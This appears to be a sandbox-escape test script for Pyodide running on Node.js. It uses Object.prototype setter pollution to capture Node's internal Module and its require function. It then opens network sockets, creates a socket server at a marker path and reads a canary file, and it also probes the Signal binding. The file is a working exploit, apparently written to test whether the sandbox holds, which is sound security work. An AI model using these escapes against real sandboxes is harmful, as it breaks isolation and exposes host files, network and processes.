# Puts a setter on Object.prototype, then makes Node's internals build an object whose constructor
# assigns that property: the setter catches the object. Emscripten's socket code loading `ws`
# built a Module (and its `require` loaded any built-in: network, host socket files, another
# process's priority); process.on('SIGUSR2') built the Signal binding. The setter is made of
# JavaScript built-ins only (it runs where Python may not).
exec(open("/sandbox/_attack.py").read())
import socket

import js
from pyodide.ffi import to_js

Object = js.Object
port, marker, canary = params["port"], params["markerPath"], params["canaryPath"]


def obj(**fields):
    return to_js(fields, dict_converter=Object.fromEntries)


def catch_while(name, trigger):
    log = js.Array.new()
    setter = js.Proxy.new(js.Object, obj(apply=js.Array.prototype.push.bind(log)))
    Object.defineProperty(Object.prototype, name, obj(set=setter, configurable=True))
    try:
        trigger()
    finally:
        js.Reflect.deleteProperty(Object.prototype, name)
    return [log[i] for i in range(1, log.length, 3)]


def connect_a_socket():
    try:
        socket.socket().connect(("127.0.0.1", port))
    except OSError:
        pass


def module_require():
    for caught in catch_while("id", connect_a_socket):
        if getattr(caught, "require", None) is not None:
            require = caught.require
            require("net").connect(port, "127.0.0.1")
            require("net").createServer().listen(marker)
            return require("fs").readFileSync(canary, "utf8")
    raise LookupError("no Module caught")


attempt("Module through ws", module_require)
attempt("Signal binding", lambda: [str(x) for x in catch_while("Signal", lambda: js.process.on("SIGUSR2", js.Function.prototype))])
attempt("assign onto Object.prototype", lambda: setattr(Object.prototype, "polluted", 1))
report()
